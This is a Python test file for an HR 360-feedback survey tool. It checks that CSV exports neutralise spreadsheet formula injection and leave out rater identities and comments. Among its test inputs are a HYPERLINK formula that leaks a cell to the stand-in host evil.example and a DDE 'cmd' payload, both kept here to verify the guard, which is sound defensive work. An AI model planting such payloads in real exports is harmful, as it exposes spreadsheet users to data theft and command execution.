"""HR's CSV exports and the formula-injection guard every CSV goes through."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import select

from surveys import cycles
from surveys.csv_safety import csv_text, safe_cell
from surveys.errors import DomainError
from surveys.exports import (
    RESPONSE_RATE_COLUMNS,
    response_rates_csv,
    scores_csv,
    scores_min_group_size,
)
from surveys.models import Assignment, Employee, Response
from surveys.releases import release_cycle
from surveys.responses import SELF_PSEUDONYM
from surveys.scores_csv import SCORES_COLUMNS, score_csv
from tests import factories as f
from tests.surveys.test_reports import build_cycle

EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
EVIL_ID = "+T1"
COMMENT = "Distinctive peer comment 51b2"


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


# -- the guard ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        (EVIL_NAME, "'" + EVIL_NAME),
        ("Ann = Bob", "Ann = Bob"),
        ("", ""),
        (None, ""),
        ("-0.25", "-0.25"),
        ("+3", "+3"),
        ("-1e-3", "-1e-3"),
        (-2, "-2"),
        (0.5, "0.5"),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_csv_text_neutralises_every_cell_and_still_parses():
    text = csv_text(["a", "=b"], [[EVIL_NAME, "x,y"], ["@me", 3]])
    assert rows(text) == [["a", "'=b"], ["'" + EVIL_NAME, "x,y"], ["'@me", "3"]]


def test_the_score_command_neutralises_labels_too(tmp_path):
    """``feedback360 score`` writes through the same guard (surveys.scores_csv)."""
    lines = ["rater_id,ratee_id,item_id,relationship,rating,competency"]
    ratees = ["=evil()", "@b", "-c"]
    for e, ratee in enumerate(ratees):
        for r in range(4):
            rel = "self" if r == 0 else "peer"
            rater = ratee if r == 0 else f"r{(e + r) % 5}"
            for item in ("i1", "i2"):
                lines.append(f"{rater},{ratee},{item},{rel},{(e + r + len(item)) % 5 + 1},+comp")
    source = tmp_path / "ratings.csv"
    source.write_text("\n".join(lines) + "\n")
    out = tmp_path / "scores.csv"
    score_csv(source, out, method="raw")
    table = rows(out.read_text())
    assert tuple(table[0]) == SCORES_COLUMNS
    assert {r[0] for r in table[1:]} == {"'=evil()", "'@b", "'-c"}
    assert {r[1] for r in table[1:]} == {"'+comp", "ALL"}


# -- exports of a cycle ---------------------------------------------------------------------


@pytest.fixture
def closed(session):
    """Two participants; member 1 answered by self, manager and 3 peers (one comments)."""
    cycle, participant = build_cycle(session, participants=2, comments={"peer": COMMENT})
    participant.employee.name = EVIL_NAME
    participant.employee.external_id = EVIL_ID
    cycles.close_cycle(session, cycle)
    session.commit()
    return cycle, participant


def _rater_identities(session, cycle, participant) -> set[str]:
    """Names, emails and ids of everyone who rated ``participant`` (self excepted)."""
    raters = session.scalars(
        select(Employee)
        .join(Assignment, Assignment.rater_id == Employee.id)
        .where(Assignment.participant_id == participant.id, Employee.id != participant.employee_id)
    ).all()
    found = {x for e in raters for x in (e.name, e.email)}
    found |= set(
        session.scalars(
            select(Response.rater_pseudonym).where(Response.rater_pseudonym != SELF_PSEUDONYM)
        )
    )
    return found


def test_response_rates_count_per_participant_and_relationship(session, closed):
    cycle, _ = closed
    table = rows(response_rates_csv(session, cycle))
    assert tuple(table[0]) == RESPONSE_RATE_COLUMNS
    mine = [r for r in table[1:] if r[0] == "'" + EVIL_ID]
    assert {r[1] for r in mine} == {"'" + EVIL_NAME}  # neutralised, still readable
    assert [(r[2], r[3], r[4], r[5]) for r in mine] == [
        ("self", "1", "1", "1.0000"),
        ("manager", "1", "1", "1.0000"),
        ("peer", "3", "3", "1.0000"),
        ("all", "5", "5", "1.0000"),
    ]
    other = [r for r in table[1:] if r[0] != "'" + EVIL_ID]
    assert other[-1][2:] == ["all", "5", "0", "0.0000"]


def test_response_rates_name_no_rater_and_no_answer(session, closed):
    cycle, participant = closed
    text = response_rates_csv(session, cycle)
    # The second participant is a peer of the first: their name is in as a participant only.
    second = next(p for p in cycle.participants if p.id != participant.id).employee
    for identity in _rater_identities(session, cycle, participant) - {second.name}:
        assert identity not in text
    assert second.email not in text
    assert COMMENT not in text


def test_scores_export_has_the_score_command_format_and_no_raters(session, closed):
    cycle, participant = closed
    text = scores_csv(session, cycle)
    table = rows(text)
    assert tuple(table[0]) == SCORES_COLUMNS
    assert {r[0] for r in table[1:]} == {"'" + EVIL_ID}  # only member 1 has ratings
    others = next(r for r in table[1:] if r[1] == "ALL" and r[2] == "others")
    assert others[3] == "4"  # manager and three peers
    assert float(others[4]) == pytest.approx((4 + 2 + 3 + 4) / 4)
    # The lone manager is below the export's group size: suppressed, no figures.
    manager = next(r for r in table[1:] if r[1] == "ALL" and r[2] == "manager")
    assert manager[3:] == ["", "", "", "", "", "", "1"]
    for identity in _rater_identities(session, cycle, participant):
        assert identity not in text
    assert COMMENT not in text
    assert EVIL_NAME not in text


def test_scores_export_uses_the_strictest_anonymous_threshold(session):
    _, people = f.team(session, 3)
    cycle = f.cycle(session, people, thresholds={"peer": 5, "others": 4})
    assert scores_min_group_size(cycle) == 5


def test_scores_export_only_once_nobody_can_answer(session):
    cycle, _ = build_cycle(session)
    with pytest.raises(DomainError, match="once it is closed"):
        scores_csv(session, cycle)
    cycles.close_cycle(session, cycle)
    assert scores_csv(session, cycle).startswith(",".join(SCORES_COLUMNS))
    release_cycle(session, cycle, base_url=f.BASE_URL)
    assert len(rows(scores_csv(session, cycle))) > 1


def test_response_rates_need_a_launched_cycle(session):
    _, people = f.team(session, 3)
    cycle = f.cycle(session, people)
    with pytest.raises(DomainError, match="once it opens"):
        response_rates_csv(session, cycle)


def test_scores_export_without_any_response_is_the_header(session):
    _, people = f.team(session, 3)
    cycle = f.launched(session, people)
    cycles.close_cycle(session, cycle)
    assert scores_csv(session, cycle) == ",".join(SCORES_COLUMNS) + "\n"
